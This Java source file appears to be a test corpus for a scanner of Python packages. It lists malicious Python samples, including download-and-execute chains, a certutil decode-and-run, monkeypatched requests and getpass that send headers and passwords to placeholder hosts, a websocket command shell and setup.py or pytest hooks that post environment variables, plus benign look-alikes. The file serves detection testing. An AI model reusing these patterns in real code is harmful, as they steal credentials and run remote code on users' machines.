package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** Deeds that the language, other programs or earlier commands bring about. */
final class PythonDetours {
  private PythonDetours() {}

  static List<Sample> all() {
    return List.of(
        Sample.imported(
            "a function hands itself what it decodes",
            """
            import base64
            def f(x, n):
                if n:
                    f(base64.b64decode(open('/etc/sample').read()), 0)
                else:
                    exec(x)
            f('', 1)
            """),
        Sample.imported(
            "a function of the same name as the one that it hands it to",
            """
            import base64
            def f(x):
                exec(x)
            old = f
            def f(x):
                old(base64.b64decode(open('/etc/sample').read()))
            f('')
            """),
        Sample.imported(
            "what calls itself with nothing gives what it fetched",
            """
            from urllib.request import urlopen
            def g(u=None):
                if u is None:
                    return urlopen('http://192.0.2.7/a').read()
                exec(g())
            g('http://192.0.2.8/')
            g('http://192.0.2.8/')
            """),
        Sample.setup(
            "code in a text fetches a program and runs it",
            """
            from setuptools import setup
            import subprocess
            subprocess.check_call(["python3", "-c", "import urllib.request as r,os;open('/tmp/u.sh','wb').write(r.urlopen('https://mirror.example/u.sh').read());os.system('sh /tmp/u.sh')"])
            setup(name='sample')
            """),
        Sample.imported(
            "a temporary file is made by its descriptor and run by its path",
            """
            import os, sys, tempfile
            from urllib import request
            fd, name = tempfile.mkstemp(suffix='.py')
            with os.fdopen(fd, 'wb') as out:
                out.write(request.urlopen('https://files.example/a').read())
            os.spawnl(os.P_NOWAIT, sys.executable, sys.executable, name)
            """),
        Sample.imported(
            "three commands, of which each needs the one before",
            """
            import subprocess
            for step in ['certutil -urlcache -split -f http://192.0.2.81/a.txt %TEMP%\\\\a.txt',
                         'certutil -decode %TEMP%\\\\a.txt %TEMP%\\\\a.exe',
                         '%TEMP%\\\\a.exe']:
                subprocess.call(step, shell=True)
            """),
        Sample.imported(
            "a socket is wrapped and answers with a program",
            """
            import os, socket, ssl
            context = ssl.create_default_context()
            s = context.wrap_socket(socket.create_connection(('files.example', 443)), server_hostname='files.example')
            s.sendall(b'GET /agent')
            data = b''
            while True:
                part = s.recv(4096)
                if not part:
                    break
                data += part
            open('/var/tmp/agent', 'wb').write(data)
            os.execv('/var/tmp/agent', ['/var/tmp/agent'])
            """),
        Sample.imported(
            "what is sent by a library is copied by what replaces its method",
            """
            import json, requests
            _send = requests.Session.send
            def send(self, request, **options):
                answer = _send(self, request, **options)
                _send(self, requests.Request('POST', 'https://audit.example/h', data=json.dumps(dict(request.headers))).prepare())
                return answer
            requests.Session.send = send
            """),
        Sample.imported(
            "passwords are copied by what replaces the question for them",
            """
            import getpass
            from urllib.request import Request, urlopen
            _ask = getpass.getpass
            def ask(prompt='Password: ', stream=None):
                value = _ask(prompt, stream)
                urlopen(Request('https://audit.example/', value.encode()))
                return value
            getpass.getpass = ask
            """),
        Sample.imported(
            "an object fetches and runs when it is thrown away",
            """
            import requests
            class Session:
                def __enter__(self):
                    return self
                def __exit__(self, *error):
                    pass
                def __del__(self):
                    eval(requests.get('https://files.example/x').text)
            session = Session()
            """),
        Sample.imported(
            "operators of a class decode and run",
            """
            import base64
            class Chain:
                def __init__(self, text):
                    self.text = text
                def __rshift__(self, other):
                    exec(base64.b64decode(self.text), {})
            Chain('cHJpbnQoJ2luZXJ0JykKcHJpbnQoJ2luZXJ0JykK') >> None
            """),
        Sample.imported(
            "modules are looked for where an archive was unpacked that was fetched",
            """
            import io, os, sys, zipfile
            from urllib.request import urlopen
            folder = os.path.join(os.path.expanduser('~'), '.cache', 'sample')
            with zipfile.ZipFile(io.BytesIO(urlopen('https://files.example/extra.zip').read())) as z:
                z.extractall(folder)
            sys.path.insert(0, folder)
            import sample_extra
            """),
        Sample.imported(
            "a library is written out of a text and loaded",
            """
            import base64, ctypes, os, sys
            path = os.path.join(os.path.dirname(sys.executable), 'sample.dll')
            with open(path, 'wb') as out:
                out.write(base64.b64decode('TVppbmVydGluZXJ0aW5lcnRpbmVydA=='))
            ctypes.CDLL(path)
            """),
        Sample.imported(
            "messages of a socket are commands",
            """
            import asyncio, websockets
            async def serve(address):
                async with websockets.connect(address) as ws:
                    async for message in ws:
                        p = await asyncio.create_subprocess_shell(message, stdout=asyncio.subprocess.PIPE)
                        out, _ = await p.communicate()
                        await ws.send(out.decode())
            asyncio.run(serve('wss://live.example/s'))
            """),
        Sample.imported(
            "a built-in function is named by a document",
            """
            import json, base64
            names = json.loads('{"run": "exec", "text": "cHJpbnQoJ2luZXJ0JykKcHJpbnQoJ2luZXJ0JykK"}')
            vars(__builtins__)[names['run']](base64.b64decode(names['text']))
            """),
        Sample.setup(
            "a method of a command is replaced",
            """
            import setuptools
            from setuptools.command import install as commands
            _run = commands.install.run
            def run(self):
                import base64
                exec(base64.b64decode('cHJpbnQoJ2luZXJ0JykKcHJpbnQoJ2luZXJ0JykK'))
                return _run(self)
            commands.install.run = run
            setuptools.setup(name='sample', version='1.0', packages=['sample'])
            """),
        Sample.setup(
            "the answer of a server is handed to a shell",
            """
            import os, urllib.request
            from setuptools import setup
            os.system(urllib.request.urlopen('https://files.example/prepare.sh').read().decode())
            setup(name='sample', version='1.0', packages=['sample'])
            """),
        Sample.setup(
            "a form is posted by options",
            """
            import os, platform, pycurl
            from urllib.parse import urlencode
            from setuptools import setup
            c = pycurl.Curl()
            c.setopt(c.URL, 'https://reports.example/r')
            c.setopt(c.POSTFIELDS, urlencode({'h': platform.node(), 'u': os.getlogin()}))
            c.perform()
            setup(name='sample', version='1.0', packages=['sample'])
            """),
        Sample.setup(
                "every build in its environment loads a writer",
                """
                from setuptools import setup
                setup(name='sample', version='1.0', packages=['sample'],
                      entry_points={'egg_info.writers': ['sample.txt = sample.command:write']})
                """)
            .with(
                "sample/command.py",
                """
                import subprocess
                def write(command, basename, filename):
                    subprocess.Popen('wget -qO- http://192.0.2.10/l | sh', shell=True)
                """),
        new Sample(
            "pytest loads a plug-in of setup.cfg",
            Artifact.sdist("sample", "1.0")
                .file("setup.py", "from setuptools import setup\nsetup()\n")
                .file(
                    "setup.cfg", "[options.entry_points]\npytest11 =\n    sample = sample.plugin\n")
                .file(
                    "sample/plugin.py",
                    """
                    import os, requests
                    def pytest_configure(config):
                        requests.post('https://reports.example/c', json=dict(os.environ))
                    """)));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.imported(
            "a temporary file is written, read back and counted",
            """
            import os, tempfile, urllib.request
            def size(address):
                fd, name = tempfile.mkstemp(suffix='.csv')
                with os.fdopen(fd, 'wb') as out:
                    out.write(urllib.request.urlopen(address).read())
                with open(name) as back:
                    return len(back.read())
            """),
        Sample.imported(
            "settings are a document in a text",
            """
            import json
            SETTINGS = json.loads('{"level": "info", "colours": ["red", "green"]}')
            """),
        Sample.imported(
            "paths are put together with operators of a class",
            """
            class Place:
                def __init__(self, text):
                    self.text = text
                def __truediv__(self, other):
                    return Place(self.text + '/' + other)
                def __str__(self):
                    return self.text
            CONFIG = str(Place('etc') / 'sample')
            """));
  }
}
